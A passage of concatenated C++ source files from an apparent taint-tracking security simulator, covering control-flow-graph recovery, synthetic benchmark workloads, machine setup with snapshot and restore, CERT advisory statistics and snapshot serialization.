  blocks_.reserve(static_cast<size_t>(
      std::count(leader_.begin(), leader_.end(), true)));
  block_of_.assign(insts_.size(), -1);
  // Blocks are built in ascending address order and functions_ is sorted by
  // entry, so a running index replaces the per-block binary search.
  size_t fi = 0;
  size_t i = 0;
  while (i < insts_.size()) {
    BasicBlock bb;
    bb.begin = text_begin_ + 4 * static_cast<uint32_t>(i);
    while (fi + 1 < functions_.size() && functions_[fi + 1].entry <= bb.begin) {
      ++fi;
    }
    bb.function = (fi < functions_.size() &&
                   functions_[fi].entry <= bb.begin && bb.begin < functions_[fi].end)
                      ? static_cast<int>(fi)
                      : -1;
    size_t j = i;
    for (;;) {
      block_of_[j] = static_cast<int>(blocks_.size());
      const bool terminates = is_terminator(insts_[j]);
      ++j;
      if (terminates || j >= insts_.size() || leader_[j]) break;
    }
    bb.end = text_begin_ + 4 * static_cast<uint32_t>(j);
    if (bb.function >= 0) {
      functions_[static_cast<size_t>(bb.function)].blocks.push_back(
          static_cast<int>(blocks_.size()));
    }
    blocks_.push_back(std::move(bb));
    i = j;
  }
}

void Cfg::wire_edges() {
  // First pass: record calls and return sites so `jr $ra` edges can be
  // resolved in the second pass.
  for (BasicBlock& bb : blocks_) {
    const Instruction& last = insts_[index_of(bb.end - 4)];
    const uint32_t last_pc = bb.end - 4;
    auto add_call = [&](uint32_t callee_entry) {
      auto it = function_by_entry_.find(callee_entry);
      const int callee =
          it != function_by_entry_.end() ? it->second : function_at(callee_entry);
      const int callee_block = block_at(callee_entry);
      if (callee < 0 || callee_block < 0) return;
      bb.call_succs.push_back(callee_block);
      functions_[static_cast<size_t>(callee)].return_sites.push_back(last_pc + 4);
      if (bb.function >= 0) {
        functions_[static_cast<size_t>(bb.function)].callees.push_back(callee);
      }
    };
    if (last.op == Op::kJal) {
      add_call(last.target);
    } else if (last.op == Op::kJalr) {
      // Unresolved indirect call: any known function entry.
      for (const Function& f : functions_) add_call(f.entry);
    }
  }
  for (BasicBlock& bb : blocks_) {
    const uint32_t last_pc = bb.end - 4;
    const Instruction& last = insts_[index_of(last_pc)];
    auto add_succ = [&](uint32_t pc) {
      const int b = block_at(pc);
      if (b >= 0) bb.succs.push_back(b);
    };
    switch (isa::op_class(last.op)) {
      case OpClass::kBranch:
        add_succ(branch_target(last, last_pc));
        if (last.rs != last.rt || last.op != Op::kBeq) add_succ(last_pc + 4);
        break;
      case OpClass::kJump:
        if (last.op == Op::kJal) {
          // Control continues in the callee (call_succs); execution resumes
          // at last_pc + 4 via the callee's return edges.
        } else {
          add_succ(last.target);
        }
        break;
      case OpClass::kJumpReg:
        if (last.op == Op::kJr && last.rs == isa::kRa) {
          bb.returns = true;
          if (bb.function >= 0) {
            for (uint32_t site :
                 functions_[static_cast<size_t>(bb.function)].return_sites) {
              add_succ(site);
            }
          }
        } else if (last.op == Op::kJr) {
          // Indirect jump: conservatively, any labeled block.
          bb.indirect_jump = true;
          for (const auto& [addr, name] : program_->text_labels) {
            add_succ(addr);
          }
        }
        // jalr: call edges recorded above; return flows to last_pc + 4,
        // which each callee's `jr $ra` reaches through its return sites.
        break;
      default:
        if (last.op != Op::kBreak && last.op != Op::kInvalid) {
          add_succ(last_pc + 4);
        }
        break;
    }
    std::sort(bb.succs.begin(), bb.succs.end());
    bb.succs.erase(std::unique(bb.succs.begin(), bb.succs.end()),
                   bb.succs.end());
  }
  for (Function& f : functions_) {
    std::sort(f.return_sites.begin(), f.return_sites.end());
    f.return_sites.erase(
        std::unique(f.return_sites.begin(), f.return_sites.end()),
        f.return_sites.end());
    std::sort(f.callees.begin(), f.callees.end());
    f.callees.erase(std::unique(f.callees.begin(), f.callees.end()),
                    f.callees.end());
  }
}

int Cfg::block_at(uint32_t pc) const {
  if (!in_text(pc)) return -1;
  return block_of_[index_of(pc)];
}

int Cfg::function_at(uint32_t pc) const {
  if (functions_.empty() || !in_text(pc)) return -1;
  // functions_ is sorted by entry; find the last entry <= pc.
  int lo = 0, hi = static_cast<int>(functions_.size()) - 1, best = -1;
  while (lo <= hi) {
    const int mid = (lo + hi) / 2;
    if (functions_[static_cast<size_t>(mid)].entry <= pc) {
      best = mid;
      lo = mid + 1;
    } else {
      hi = mid - 1;
    }
  }
  return best;
}

std::vector<bool> Cfg::reachable_blocks() const {
  std::vector<bool> seen(blocks_.size(), false);
  std::vector<int> stack;
  const int entry = block_at(program_->entry);
  if (entry >= 0) {
    seen[static_cast<size_t>(entry)] = true;
    stack.push_back(entry);
  }
  while (!stack.empty()) {
    const int b = stack.back();
    stack.pop_back();
    const BasicBlock& bb = blocks_[static_cast<size_t>(b)];
    auto visit = [&](int s) {
      if (s >= 0 && !seen[static_cast<size_t>(s)]) {
        seen[static_cast<size_t>(s)] = true;
        stack.push_back(s);
      }
    };
    for (int s : bb.succs) visit(s);
    for (int s : bb.call_succs) visit(s);
  }
  return seen;
}

}  // namespace ptaint::analysis
