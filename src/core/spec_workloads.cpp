#include "core/spec_workloads.hpp"

#include <random>

#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

// Deterministic generator; fixed seed so benches and tests agree.
class Gen {
 public:
  explicit Gen(uint32_t seed) : rng_(seed) {}
  uint32_t next(uint32_t bound) { return rng_() % bound; }
  char letter() { return static_cast<char>('a' + next(26)); }

 private:
  std::mt19937 rng_;
};

std::string gen_bytes(int n, uint32_t seed) {
  // Runs of repeated bytes: compressible, like the bzip2/gzip corpora.
  Gen g(seed);
  std::string out;
  out.reserve(n);
  while (static_cast<int>(out.size()) < n) {
    const char c = g.letter();
    const uint32_t run = 1 + g.next(12);
    for (uint32_t i = 0; i < run && static_cast<int>(out.size()) < n; ++i) {
      out.push_back(c);
    }
  }
  return out;
}

std::string gen_expressions(int lines, uint32_t seed) {
  Gen g(seed);
  std::string out;
  for (int i = 0; i < lines; ++i) {
    out += std::to_string(g.next(1000));
    const int terms = 1 + static_cast<int>(g.next(6));
    static constexpr char kOps[] = {'+', '-', '*'};
    for (int t = 0; t < terms; ++t) {
      out += ' ';
      out += kOps[g.next(3)];
      out += ' ';
      out += std::to_string(g.next(100));
    }
    out += " ;\n";
  }
  return out;
}

std::string gen_graph(int nodes, int edges, uint32_t seed) {
  Gen g(seed);
  std::string out = std::to_string(nodes) + " " + std::to_string(edges) + "\n";
  for (int i = 0; i < edges; ++i) {
    // Keep the graph connected-ish: chain plus random extras.
    const int u = i < nodes - 1 ? i : static_cast<int>(g.next(nodes));
    const int v = i < nodes - 1 ? i + 1 : static_cast<int>(g.next(nodes));
    out += std::to_string(u) + " " + std::to_string(v) + " " +
           std::to_string(1 + g.next(50)) + "\n";
  }
  return out;
}

std::string gen_words(int words, uint32_t seed) {
  Gen g(seed);
  std::string out;
  for (int i = 0; i < words; ++i) {
    const int len = 2 + g.next(9);
    for (int c = 0; c < len; ++c) out.push_back(g.letter());
    out.push_back(i % 12 == 11 ? '\n' : ' ');
  }
  return out;
}

std::string gen_netlist(int nets, uint32_t seed) {
  Gen g(seed);
  std::string out = std::to_string(nets) + "\n";
  for (int i = 0; i < nets; ++i) {
    out += std::to_string(g.next(64)) + " " + std::to_string(g.next(64)) + "\n";
  }
  return out;
}

}  // namespace

std::vector<SpecWorkload> make_spec_workloads(int scale) {
  namespace apps = guest::apps;
  std::vector<SpecWorkload> w;
  w.push_back({"BZIP2", apps::spec_bzip2(), gen_bytes(8192 * scale, 101),
               "bzip2_s checksum="});
  w.push_back({"GCC", apps::spec_gcc(), gen_expressions(220 * scale, 202),
               "gcc_s sum="});
  w.push_back({"GZIP", apps::spec_gzip(), gen_bytes(3000 * scale, 303),
               "gzip_s matched="});
  w.push_back({"MCF", apps::spec_mcf(),
               gen_graph(64, std::min(1024, 400 * scale), 404), "mcf_s dist="});
  w.push_back({"PARSER", apps::spec_parser(), gen_words(1500 * scale, 505),
               "parser_s words="});
  w.push_back({"VPR", apps::spec_vpr(),
               gen_netlist(std::min(256, 120 * scale), 606), "vpr_s cost="});
  return w;
}

std::unique_ptr<Machine> prepare_spec_workload(const SpecWorkload& workload,
                                               const cpu::TaintPolicy& policy) {
  MachineConfig cfg;
  cfg.policy = policy;
  cfg.max_instructions = 2'000'000'000;
  auto m = std::make_unique<Machine>(cfg);
  m->load_sources(guest::link_with_runtime(workload.app));
  m->os().vfs().install("/input", workload.input);
  return m;
}

SpecRunRow run_spec_workload(const SpecWorkload& workload,
                             const cpu::TaintPolicy& policy) {
  auto m = prepare_spec_workload(workload, policy);
  RunReport report = m->run();
  return classify_spec_run(workload, *m, report);
}

SpecRunRow classify_spec_run(const SpecWorkload& workload, Machine& m,
                             const RunReport& report) {
  SpecRunRow row;
  row.name = workload.name;
  row.program_bytes =
      m.program().text.size() * 4 + m.program().data.size();
  row.input_bytes = workload.input.size();
  row.instructions = report.cpu_stats.instructions;
  row.tainted_loads = report.cpu_stats.tainted_loads;
  row.alert = report.detected();
  row.output = report.stdout_text;
  row.ok = report.stop == cpu::StopReason::kExit && report.exit_status == 0 &&
           report.stdout_text.rfind(workload.expect_stdout_prefix, 0) == 0;
  return row;
}

}  // namespace ptaint::core
