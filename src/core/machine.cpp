#include "core/machine.hpp"

#include <algorithm>
#include <cstdlib>
#include <cstring>

#include "analysis/summary_cache.hpp"
#include "analysis/taint_analyzer.hpp"
#include "analysis/vsa.hpp"

namespace ptaint::core {

using mem::TaintedWord;
namespace layout = isa::layout;

namespace {

/// Engine resolution: explicit config wins, then the PTAINT_ENGINE
/// environment variable, then the superblock default.
cpu::Engine resolve_engine(const std::optional<cpu::Engine>& configured) {
  if (configured) return *configured;
  if (const char* env = std::getenv("PTAINT_ENGINE")) {
    if (std::strcmp(env, "step") == 0) return cpu::Engine::kStep;
    if (std::strcmp(env, "superblock") == 0) return cpu::Engine::kSuperblock;
    if (std::strcmp(env, "jit") == 0) return cpu::Engine::kJit;
  }
  return cpu::Engine::kSuperblock;
}

/// COW escape-hatch resolution: explicit config wins, then the
/// PTAINT_NO_COW environment variable (truthy = anything but "" / "0").
bool resolve_no_cow(bool configured) {
  if (configured) return true;
  if (const char* env = std::getenv("PTAINT_NO_COW")) {
    return env[0] != '\0' && std::strcmp(env, "0") != 0;
  }
  return false;
}

}  // namespace

std::string RunReport::alert_line() const {
  if (!alert) return "(no alert)";
  std::string line = alert->to_string();
  if (!alert_function.empty()) line += "  [in " + alert_function + "]";
  return line;
}

Machine::Machine(MachineConfig config) : config_(std::move(config)) {
  no_cow_ = resolve_no_cow(config_.no_cow);
  os_ = std::make_unique<os::SimOs>();
  cpu_ = std::make_unique<cpu::Cpu>(memory_, config_.policy);
  cpu_->set_os(os_.get());
  cpu_->set_engine(resolve_engine(config_.engine));
  if (config_.pipeline_model) {
    pipeline_ = std::make_unique<cpu::Pipeline>(config_.pipeline);
  }
  install_retire_hook();
}

void Machine::install_retire_hook() {
  if (!pipeline_ && !tracer_ && !profiler_) return;
  cpu_->set_retire_hook([p = pipeline_.get(), t = tracer_.get(),
                         prof = profiler_.get()](
                            const isa::Instruction& inst, uint32_t pc,
                            bool taken, bool is_mem, uint32_t ea) {
    if (p) p->on_retire(inst, pc, taken, is_mem, ea);
    if (t) t->record(inst, pc, taken, is_mem, ea);
    if (prof) prof->record(pc);
  });
}

void Machine::enable_trace(size_t capacity) {
  tracer_ = std::make_unique<trace::Tracer>(capacity);
  install_retire_hook();
}

void Machine::enable_profile() {
  profiler_ = std::make_unique<trace::Profiler>(program_);
  install_retire_hook();
}

Machine::~Machine() = default;

void Machine::load_source(std::string_view source, std::string name) {
  load_program(asmgen::assemble(source, std::move(name)));
}

void Machine::load_sources(const std::vector<asmgen::Source>& sources) {
  load_program(asmgen::assemble(sources));
}

void Machine::load_program(asmgen::Program program) {
  // The program (and the text/data it writes below) no longer corresponds
  // to whatever snapshot this machine was last restored from; the next
  // restore must be a full one.
  memory_.forget_base();
  program_ = std::move(program);
  // Text segment.
  for (size_t i = 0; i < program_.text.size(); ++i) {
    memory_.store_word(layout::kTextBase + 4 * static_cast<uint32_t>(i),
                       TaintedWord{program_.text[i]});
  }
  // Data segment.
  memory_.write_block(layout::kDataBase, program_.data, /*tainted=*/false);
  // Program break starts past .data, 8-byte aligned.
  os_->set_initial_brk((program_.data_end + 7) & ~7u);
  cpu_->set_executable_range(
      layout::kTextBase,
      layout::kTextBase + 4 * static_cast<uint32_t>(program_.text.size()));
  cpu_->set_pc(program_.entry);
  // The initial stack pointer is the root of stack address provenance:
  // every frame and local address derives from it.
  cpu_->regs().set(isa::kSp, TaintedWord{layout::kStackTop - aslr_offset(),
                                         mem::kStackAddrMask});
  setup_argv();
  apply_may_publish(/*strict=*/true);
  if (config_.static_elision) apply_static_elision();
}

size_t Machine::enable_static_elision() {
  config_.static_elision = true;
  return apply_static_elision();
}

size_t Machine::apply_static_elision() {
  if (program_.text.empty()) return 0;
  // Second-generation table: the register-only analyzer's bitmap unioned
  // with the memory-aware value-set prover's (vsa.cpp), so every gen-1
  // elision survives and sites whose cleanliness transits memory join them.
  // The summary cache memoizes the whole result set per (program, policy),
  // so rebooting the same guest — or a near-identical campaign variant —
  // skips CFG recovery and both fixpoints.
  const std::shared_ptr<const analysis::CachedAnalysis> cached =
      analysis::SummaryCache::instance().analyze(program_, config_.policy);
  cpu_->set_check_elision(cached->gen2.elision);
  cpu_->set_leak_elision(cached->gen2.leak_elision);
  // Hand the recovered block boundaries to the superblock engine so its
  // translations align with the static CFG (translation hint only).
  cpu_->set_block_leaders(cached->block_leaders);
  return cached->gen2.gen2_clean;
}

uint32_t Machine::aslr_offset() const {
  if (config_.aslr_entropy_bits <= 0) return 0;
  const int bits = std::min(config_.aslr_entropy_bits, 20);
  // xorshift over the seed, then word-align within the entropy window.
  uint32_t x = config_.aslr_seed * 2654435761u + 0x9e3779b9u;
  x ^= x << 13;
  x ^= x >> 17;
  x ^= x << 5;
  return (x & ((1u << bits) - 1)) & ~3u;
}

void Machine::setup_argv() {
  // The argv/env block lives above the initial stack pointer:
  //   [argc][argv0..argvN-1][0][env0..envM-1][0][string bytes...]
  // Pointer cells are kernel-built (never tainted); the string bytes come
  // from the outside world and are tainted like any other external input
  // (paper Section 4.4 lists command line and environment as taint sources).
  const auto& argv = config_.argv;
  const auto& env = config_.env;
  const uint32_t cells = 1 + static_cast<uint32_t>(argv.size()) + 1 +
                         static_cast<uint32_t>(env.size()) + 1;
  uint32_t str_addr = layout::kArgBase + 4 * cells;
  uint32_t cell_addr = layout::kArgBase;

  memory_.store_word(cell_addr, TaintedWord{static_cast<uint32_t>(argv.size())});
  cell_addr += 4;
  auto emit_strings = [&](const std::vector<std::string>& items) {
    for (const auto& s : items) {
      memory_.store_word(cell_addr, TaintedWord{str_addr});
      cell_addr += 4;
      std::vector<uint8_t> bytes(s.begin(), s.end());
      bytes.push_back(0);
      memory_.write_block(str_addr, bytes, config_.taint_argv);
      if (config_.taint_argv) {
        // The terminating NUL is kernel-added, not attacker data.
        memory_.set_taint(str_addr + static_cast<uint32_t>(s.size()), 1, false);
      }
      str_addr += static_cast<uint32_t>(bytes.size());
    }
    memory_.store_word(cell_addr, TaintedWord{0});
    cell_addr += 4;
  };
  emit_strings(argv);
  emit_strings(env);

  cpu_->regs().set(isa::kA0, TaintedWord{static_cast<uint32_t>(argv.size())});
  cpu_->regs().set(isa::kA1, TaintedWord{layout::kArgBase + 4});
  cpu_->regs().set(
      isa::kA2,
      TaintedWord{layout::kArgBase + 4 * (2 + static_cast<uint32_t>(argv.size()))});
}

void Machine::protect_symbol(const std::string& symbol, uint32_t len) {
  cpu_->protect_region(program_.symbols.at(symbol), len, symbol);
}

void Machine::apply_may_publish(bool strict) {
  if (config_.may_publish.empty()) return;
  cpu_->set_publish_ranges(
      analysis::resolve_publish_ranges(program_, config_.may_publish, strict));
}

MachineSnapshot Machine::snapshot() {
  MachineSnapshot s;
  s.program = program_;
  if (no_cow_) {
    s.memory.deep_copy_from(memory_);  // debugging: no page sharing at all
  } else {
    s.memory = memory_;  // shares every page copy-on-write
    // The machine and the snapshot are page-identical right now; track the
    // divergence so restoring *back* to this snapshot is a delta.  Moves of
    // the snapshot (returning it, stashing it in a cache) preserve the
    // memory identity the tracking refers to.
    memory_.track_against(s.memory);
  }
  s.cpu = cpu_->save_state();
  s.os = *os_;
  if (pipeline_) s.pipeline = *pipeline_;
  return s;
}

void Machine::restore(const MachineSnapshot& snapshot) {
  bool caches_kept = false;
  std::optional<std::vector<uint32_t>> reverted;
  if (!no_cow_) reverted = memory_.delta_restore(snapshot.memory);
  if (reverted) {
    // Delta path: the memory already matched the snapshot except on the
    // reverted pages, and the program is unchanged (load_program forgets
    // the base), so the decode cache, superblock translations and any
    // installed elision bitmap stay valid everywhere else.  Only decodes
    // covering reverted pages — self-modified code — must go.
    caches_kept = cpu_->restore_state_keep_caches(snapshot.cpu);
    if (caches_kept) {
      for (uint32_t idx : *reverted) {
        cpu_->invalidate_decode_range(idx << mem::TaintedMemory::kPageShift,
                                      mem::TaintedMemory::kPageSize);
      }
    }
  } else {
    program_ = snapshot.program;
    if (no_cow_) {
      memory_.deep_copy_from(snapshot.memory);
    } else {
      memory_ = snapshot.memory;  // share pages; snapshot becomes the base
    }
    cpu_->restore_state(snapshot.cpu);
  }
  *os_ = snapshot.os;
  if (config_.pipeline_model) {
    // Pipeline state transfers only between same-shaped configs; restoring
    // a snapshot without pipeline state resets the timing model.
    if (snapshot.pipeline) {
      *pipeline_ = *snapshot.pipeline;
    } else {
      *pipeline_ = cpu::Pipeline(config_.pipeline);
    }
  }
  if (tracer_) tracer_->clear();
  if (profiler_) profiler_->reset();
  // When the decode cache was dropped (full restore), any elision bits
  // went with it; re-derive the proof for the restored program image.  On
  // the delta path the installed bitmap is still the right one: the
  // program is identical, and bits voided by self-modifying code sit on
  // reverted pages whose decodes were just invalidated (those sites are
  // simply re-checked dynamically, which can never change a verdict).
  if (config_.static_elision && !caches_kept) apply_static_elision();
  // The waiver ranges are config-derived (not snapshot state, like the
  // policy itself) and must track whatever program the restore installed.
  apply_may_publish(/*strict=*/false);
}

cpu::StopReason Machine::run_for(uint64_t n) {
  // Unlike run(), exhausting the budget here is not a stop condition — the
  // machine stays resumable for incremental driving.
  return cpu_->advance(n);
}

RunReport Machine::report() const {
  RunReport r;
  r.stop = cpu_->stop_reason();
  r.exit_status = cpu_->exit_status();
  r.alert = cpu_->alert();
  if (r.alert) r.alert_function = program_.symbol_for(r.alert->pc);
  r.fault = cpu_->fault_message();
  r.stdout_text = os_->stdout_text();
  r.stderr_text = os_->stderr_text();
  for (size_t i = 0; i < os_->net().session_count(); ++i) {
    r.net_transcripts.push_back(os_->net().transcript(i));
  }
  r.cpu_stats = cpu_->stats();
  r.taint_stats = cpu_->taint_unit().stats();
  r.os_stats = os_->stats();
  if (pipeline_) r.pipeline_stats = pipeline_->stats();
  r.tainted_memory_bytes = memory_.tainted_byte_count();
  if (tracer_) r.trace_tail = tracer_->format(&program_);
  return r;
}

RunReport Machine::run() {
  cpu_->run(config_.max_instructions);
  return report();
}

}  // namespace ptaint::core
