// MachineSnapshot <-> content-addressed store conversion (DESIGN.md §13).
//
// A dehydrated snapshot is a page-reference list into a mem::PageStore plus
// one serialized "meta" blob holding everything that is not a memory page:
// the assembled program, the CPU state (registers + taint, stop state,
// alert, stats, annotations) and the whole simulated OS (VFS, network
// sessions, fd table, captured output).  Dehydrated snapshots are what the
// SnapshotCache keeps for keys outside its hot working set, and what the
// disk tier persists so a restarted ptaint-serve rehydrates warm state.
//
// Pipeline-bearing snapshots are not dehydratable (the timing model's state
// is config-shaped, not plain data); dehydrate_snapshot returns nullopt and
// callers simply keep such snapshots hydrated.  Campaign and serve machines
// never enable the pipeline model, so the store path covers them fully.
//
// The meta blob is a versioned little-endian byte stream.  It is a cache
// artifact: on any version/shape mismatch decoding fails and the caller
// rebuilds the snapshot from source, so the format can evolve freely.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "core/machine.hpp"
#include "mem/page_store.hpp"

namespace ptaint::core {

struct StoredSnapshot {
  std::vector<std::pair<uint32_t, mem::PageStore::Key>> pages;
  std::vector<uint8_t> meta;
};

/// Interns every memory page of `snapshot` into `store` (replacing its
/// blocks with the canonical duplicates — the snapshot stays fully usable)
/// and serializes the rest.  The caller owns one store pin per page ref.
/// Returns nullopt for pipeline-bearing snapshots.
std::optional<StoredSnapshot> dehydrate_snapshot(MachineSnapshot& snapshot,
                                                 mem::PageStore& store);

/// Rebuilds a full MachineSnapshot: fetches every page ref and decodes the
/// meta blob.  Returns nullopt when a page is missing from the store or
/// the blob fails to decode (caller rebuilds from source).  Does not pin.
std::optional<MachineSnapshot> hydrate_snapshot(const StoredSnapshot& stored,
                                                mem::PageStore& store);

/// Disk-tier blob codec: the cache key string + the StoredSnapshot.
std::vector<uint8_t> encode_stored_snapshot(const std::string& key,
                                            const StoredSnapshot& stored);
std::optional<std::pair<std::string, StoredSnapshot>> decode_stored_snapshot(
    const std::vector<uint8_t>& blob);

}  // namespace ptaint::core
