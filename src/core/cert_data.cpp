#include "core/cert_data.hpp"

#include <map>

#include "core/attack.hpp"

namespace ptaint::core {

const std::vector<CertCategory>& cert_breakdown() {
  // 107 advisories, 2000-2003.  Memory-corruption categories total 72/107
  // = 67% (the paper's figure); the split across them is approximate.
  static const std::vector<CertCategory> kData = {
      {"buffer overflow", 47, true},     // unchecked buffer writes
      {"format string", 10, true},       // printf-family misuse
      {"heap corruption", 7, true},      // heap overflow / double free
      {"integer overflow", 5, true},     // signedness / truncation
      {"globbing", 3, true},             // LibC glob() misuse
      {"other (non-memory)", 35, false}, // everything else
  };
  return kData;
}

int cert_total_advisories() {
  int n = 0;
  for (const auto& c : cert_breakdown()) n += c.advisories;
  return n;
}

double cert_memory_corruption_share() {
  int mem = 0;
  for (const auto& c : cert_breakdown()) {
    if (c.memory_corruption) mem += c.advisories;
  }
  return static_cast<double>(mem) / cert_total_advisories();
}

std::vector<std::pair<std::string, int>> corpus_by_category() {
  std::map<std::string, int> counts;
  for (const auto& scenario : make_attack_corpus()) {
    ++counts[scenario->category()];
  }
  return {counts.begin(), counts.end()};
}

}  // namespace ptaint::core
