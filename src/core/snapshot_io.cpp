#include "core/snapshot_io.hpp"

#include <cstring>

namespace ptaint::core {
namespace {

constexpr uint32_t kMetaMagic = 0x504e5350u;  // "PSNP"
constexpr uint32_t kMetaVersion = 1;

// --- little-endian byte stream ------------------------------------------

struct Writer {
  std::vector<uint8_t> out;

  void u8(uint8_t v) { out.push_back(v); }
  void u16(uint16_t v) {
    u8(static_cast<uint8_t>(v));
    u8(static_cast<uint8_t>(v >> 8));
  }
  void u32(uint32_t v) {
    u16(static_cast<uint16_t>(v));
    u16(static_cast<uint16_t>(v >> 16));
  }
  void u64(uint64_t v) {
    u32(static_cast<uint32_t>(v));
    u32(static_cast<uint32_t>(v >> 32));
  }
  void i32(int32_t v) { u32(static_cast<uint32_t>(v)); }
  void b(bool v) { u8(v ? 1 : 0); }
  void str(const std::string& s) {
    u32(static_cast<uint32_t>(s.size()));
    out.insert(out.end(), s.begin(), s.end());
  }
  void bytes(const std::vector<uint8_t>& v) {
    u32(static_cast<uint32_t>(v.size()));
    out.insert(out.end(), v.begin(), v.end());
  }
};

struct Reader {
  const uint8_t* p;
  const uint8_t* end;
  bool ok = true;

  bool need(size_t n) {
    if (!ok || static_cast<size_t>(end - p) < n) ok = false;
    return ok;
  }
  uint8_t u8() {
    if (!need(1)) return 0;
    return *p++;
  }
  uint16_t u16() {
    const uint16_t lo = u8();
    return static_cast<uint16_t>(lo | (static_cast<uint16_t>(u8()) << 8));
  }
  uint32_t u32() {
    const uint32_t lo = u16();
    return lo | (static_cast<uint32_t>(u16()) << 16);
  }
  uint64_t u64() {
    const uint64_t lo = u32();
    return lo | (static_cast<uint64_t>(u32()) << 32);
  }
  int32_t i32() { return static_cast<int32_t>(u32()); }
  bool b() { return u8() != 0; }
  std::string str() {
    const uint32_t n = u32();
    if (!need(n)) return {};
    std::string s(reinterpret_cast<const char*>(p), n);
    p += n;
    return s;
  }
  std::vector<uint8_t> bytes() {
    const uint32_t n = u32();
    if (!need(n)) return {};
    std::vector<uint8_t> v(p, p + n);
    p += n;
    return v;
  }
};

// --- component codecs ----------------------------------------------------

void write_program(Writer& w, const asmgen::Program& prog) {
  w.u32(static_cast<uint32_t>(prog.text.size()));
  for (uint32_t word : prog.text) w.u32(word);
  w.bytes(prog.data);
  w.u32(prog.entry);
  w.u32(prog.data_end);
  w.u32(static_cast<uint32_t>(prog.symbols.size()));
  for (const auto& [name, addr] : prog.symbols) {
    w.str(name);
    w.u32(addr);
  }
  w.u32(static_cast<uint32_t>(prog.text_locs.size()));
  for (const auto& [addr, loc] : prog.text_locs) {
    w.u32(addr);
    w.str(loc.file);
    w.i32(loc.line);
    w.i32(loc.col);
  }
  auto write_labels =
      [&](const std::vector<std::pair<uint32_t, std::string>>& labels) {
        w.u32(static_cast<uint32_t>(labels.size()));
        for (const auto& [addr, name] : labels) {
          w.u32(addr);
          w.str(name);
        }
      };
  write_labels(prog.text_labels);
  write_labels(prog.function_labels);
}

asmgen::Program read_program(Reader& r) {
  asmgen::Program prog;
  const uint32_t text = r.u32();
  if (!r.need(static_cast<size_t>(text) * 4)) return prog;
  prog.text.reserve(text);
  for (uint32_t i = 0; i < text; ++i) prog.text.push_back(r.u32());
  prog.data = r.bytes();
  prog.entry = r.u32();
  prog.data_end = r.u32();
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    std::string name = r.str();
    const uint32_t addr = r.u32();
    prog.symbols.emplace(std::move(name), addr);
  }
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    const uint32_t addr = r.u32();
    asmgen::SourceLoc loc;
    loc.file = r.str();
    loc.line = r.i32();
    loc.col = r.i32();
    prog.text_locs.emplace(addr, std::move(loc));
  }
  auto read_labels = [&](std::vector<std::pair<uint32_t, std::string>>& out) {
    for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
      const uint32_t addr = r.u32();
      out.emplace_back(addr, r.str());
    }
  };
  read_labels(prog.text_labels);
  read_labels(prog.function_labels);
  return prog;
}

void write_word(Writer& w, mem::TaintedWord word) {
  w.u32(word.value);
  w.u16(word.taint);
}

mem::TaintedWord read_word(Reader& r) {
  mem::TaintedWord word;
  word.value = r.u32();
  word.taint = r.u16();
  return word;
}

void write_cpu(Writer& w, const cpu::Cpu::State& s) {
  for (uint8_t i = 0; i < 32; ++i) write_word(w, s.regs.get(i));
  write_word(w, s.regs.hi());
  write_word(w, s.regs.lo());
  w.u32(s.pc);
  w.u8(static_cast<uint8_t>(s.stop));
  w.b(s.alert.has_value());
  if (s.alert) {
    const cpu::SecurityAlert& a = *s.alert;
    w.u8(static_cast<uint8_t>(a.kind));
    w.u32(a.pc);
    w.u8(static_cast<uint8_t>(a.inst.op));
    w.u8(a.inst.rs);
    w.u8(a.inst.rt);
    w.u8(a.inst.rd);
    w.u8(a.inst.shamt);
    w.i32(a.inst.imm);
    w.u32(a.inst.target);
    w.str(a.disasm);
    w.u8(a.reg);
    w.u32(a.reg_value);
    w.u16(a.taint);
    w.str(a.region);
  }
  w.str(s.fault_message);
  w.i32(s.exit_status);
  const cpu::CpuStats& c = s.stats;
  for (uint64_t v : {c.instructions, c.alu_ops, c.loads, c.stores, c.branches,
                     c.taken_branches, c.jumps, c.syscalls, c.tainted_loads,
                     c.tainted_stores, c.compare_untaints}) {
    w.u64(v);
  }
  const cpu::TaintUnit::Stats& t = s.taint_stats;
  for (uint64_t v : {t.evaluations, t.tainted_evaluations, t.compare_untaints,
                     t.and_zero_untaints, t.xor_self_untaints}) {
    w.u64(v);
  }
  w.u32(static_cast<uint32_t>(s.protected_regions.size()));
  for (const cpu::Cpu::ProtectedRegion& region : s.protected_regions) {
    w.u32(region.begin);
    w.u32(region.end);
    w.str(region.name);
  }
  w.u32(s.text_begin);
  w.u32(s.text_end);
}

cpu::Cpu::State read_cpu(Reader& r) {
  cpu::Cpu::State s;
  for (uint8_t i = 0; i < 32; ++i) {
    const mem::TaintedWord word = read_word(r);
    s.regs.set(i, word);  // $zero writes are dropped, matching save shape
  }
  s.regs.set_hi(read_word(r));
  s.regs.set_lo(read_word(r));
  s.pc = r.u32();
  s.stop = static_cast<cpu::StopReason>(r.u8());
  if (r.b()) {
    cpu::SecurityAlert a;
    a.kind = static_cast<cpu::AlertKind>(r.u8());
    a.pc = r.u32();
    a.inst.op = static_cast<isa::Op>(r.u8());
    a.inst.rs = r.u8();
    a.inst.rt = r.u8();
    a.inst.rd = r.u8();
    a.inst.shamt = r.u8();
    a.inst.imm = r.i32();
    a.inst.target = r.u32();
    a.disasm = r.str();
    a.reg = r.u8();
    a.reg_value = r.u32();
    a.taint = r.u16();
    a.region = r.str();
    s.alert = std::move(a);
  }
  s.fault_message = r.str();
  s.exit_status = r.i32();
  cpu::CpuStats& c = s.stats;
  for (uint64_t* v : {&c.instructions, &c.alu_ops, &c.loads, &c.stores,
                      &c.branches, &c.taken_branches, &c.jumps, &c.syscalls,
                      &c.tainted_loads, &c.tainted_stores,
                      &c.compare_untaints}) {
    *v = r.u64();
  }
  cpu::TaintUnit::Stats& t = s.taint_stats;
  for (uint64_t* v : {&t.evaluations, &t.tainted_evaluations,
                      &t.compare_untaints, &t.and_zero_untaints,
                      &t.xor_self_untaints}) {
    *v = r.u64();
  }
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    cpu::Cpu::ProtectedRegion region;
    region.begin = r.u32();
    region.end = r.u32();
    region.name = r.str();
    s.protected_regions.push_back(std::move(region));
  }
  s.text_begin = r.u32();
  s.text_end = r.u32();
  return s;
}

